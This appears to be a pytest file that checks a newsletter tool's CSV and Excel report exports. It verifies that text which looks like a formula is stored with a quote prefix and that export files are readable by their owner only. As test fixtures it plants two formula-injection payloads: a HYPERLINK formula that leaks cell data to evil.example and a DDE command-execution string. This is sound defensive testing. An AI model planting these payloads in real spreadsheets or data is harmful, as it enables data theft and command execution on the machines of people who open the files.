"""Report exports are safe to open: text from outsiders never runs as a spreadsheet formula,
and the files written are readable by their owner only."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlmodel import Session

from campaign.cells import FORMULA_STARTS
from campaign.models import Delivery, Subscriber
from campaign.reports import Labels
from campaign.reports.export import to_csv
from campaign.reports.model import Column, Table
from tests.conftest import mode_of

pytestmark = pytest.mark.one_database(
    "the report files' format: the report queries are tested on both engines elsewhere"
)

PARIS = ZoneInfo("Europe/Paris")
# A source written by a partner's back-office, and a reply written by a remote mail server.
SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
REPLY = '@SUM(1+9)*cmd|" /C calc"!A0'


def _plant(engine, newsletter_id: int) -> None:
    with Session(engine) as session:
        mallory = Subscriber(
            email="mallory@example.org",
            first_name=SOURCE,
            source=SOURCE,
            status="active",
            created_at=datetime(2016, 3, 1, 10, tzinfo=UTC),
            updated_at=datetime(2016, 3, 1, 10, tzinfo=UTC),
            status_changed_at=datetime(2016, 3, 1, 10, tzinfo=UTC),
        )
        session.add(mallory)
        session.flush()
        session.add(
            Delivery(
                newsletter_id=newsletter_id,
                subscriber_id=mallory.id,
                email=mallory.email,
                status="bounced",
                last_reply=REPLY,
            )
        )
        session.commit()


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(path) -> list:
    return [cell for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row]


def test_text_that_looks_like_a_formula_starts_with_a_quote_in_csv() -> None:
    table = Table("by_source", [Column("source", "text"), Column("subscribers")])
    table.rows = [{"source": start + "1+2", "subscribers": -3} for start in FORMULA_STARTS]
    table.rows.append({"source": "a=b, @home, -", "subscribers": 4})
    rows = list(csv.reader(io.StringIO(to_csv(table, Labels.load("fr", PARIS)))))
    assert rows[1:] == [
        ["'=1+2", "-3"],
        ["'+1+2", "-3"],  # numbers stay numbers: only text is changed
        ["'-1+2", "-3"],
        ["'@1+2", "-3"],
        ["'\t1+2", "-3"],
        ["'\r1+2", "-3"],
        ["a=b, @home, -", "4"],  # only the first character counts
    ]


def test_a_planted_formula_is_text_in_every_report_csv_and_workbook(history_cli, engine) -> None:
    cli, history = history_cli
    n1 = str(history.newsletters["N1"])
    _plant(engine, history.newsletters["N1"])
    for arguments, planted in (
        (("subscribers", "--year", "2016", "--table", "by_source"), SOURCE),
        (("newsletter", n1, "--table", "bounce_reasons"), REPLY),
    ):
        result = cli("report", *arguments, "--format", "csv")
        assert result.exit_code == 0, result.stderr
        cells = _csv_cells(result.stdout)
        assert "'" + planted in cells
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for arguments, planted in (
        (("subscribers", "--year", "2016"), SOURCE),
        (("newsletter", n1), REPLY),
        (("bilan", "--year", "2016"), SOURCE),
    ):
        result = cli("report", *arguments, "--out", "report.xlsx")
        assert result.exit_code == 0, result.stderr
        (cell,) = [cell for cell in _xlsx_cells("report.xlsx") if cell.value == planted]
        # Shown as written, and Excel keeps it text even when someone edits the cell.
        assert cell.data_type == "s" and cell.quotePrefix


@pytest.mark.usefixtures("usual_umask")
@pytest.mark.parametrize(
    "out", ["abonnes.csv", "abonnes.json", "abonnes.html", "abonnes.xlsx", "abonnes.txt"]
)
def test_report_files_are_readable_by_their_owner_only(history_cli, workdir, out) -> None:
    cli, _ = history_cli
    (workdir / out).write_text("an older export, readable by all\n", encoding="utf-8")
    (workdir / out).chmod(0o644)
    extra = {"txt": ("--format", "table"), "csv": ("--table", "by_source")}.get(out[-3:], ())
    result = cli("report", "subscribers", "--year", "2016", "--out", out, *extra)
    assert result.exit_code == 0, result.stderr
    assert mode_of(workdir / out) == 0o600
    assert "older export" not in (workdir / out).read_bytes().decode("utf-8", "replace")
